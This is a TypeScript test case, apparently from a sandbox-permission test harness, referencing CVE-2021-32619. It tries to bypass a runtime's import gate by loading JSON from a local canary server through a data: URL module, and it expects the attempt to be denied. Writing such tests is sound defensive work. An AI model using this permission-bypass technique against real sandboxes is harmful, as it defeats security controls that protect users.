import { type Attack, denied, js } from "../attack.ts";
import { bareHost } from "../controls/bare_host.ts";
import { canaryHit } from "../proofs.ts";

export default {
  name: "import_remote_json",
  what: "Imports JSON from a server of its choice in a data: module, which no gate sees.",
  advisory: "CVE-2021-32619",
  module: js`
    export default {
      async run(at, ctx) {
        const url = "http://127.0.0.1:" + at.tcpPort + "/?secret";
        const source = 'export { default } from "' + url + '" with { type: "json" }';
        return (await import("data:text/javascript," + encodeURIComponent(source))).default;
      },
    };`,
  expect: denied("import"),
  control: bareHost("every right, in the realm of the host", { realm: "main" }),
  proof: canaryHit("tcp"),
} satisfies Attack;
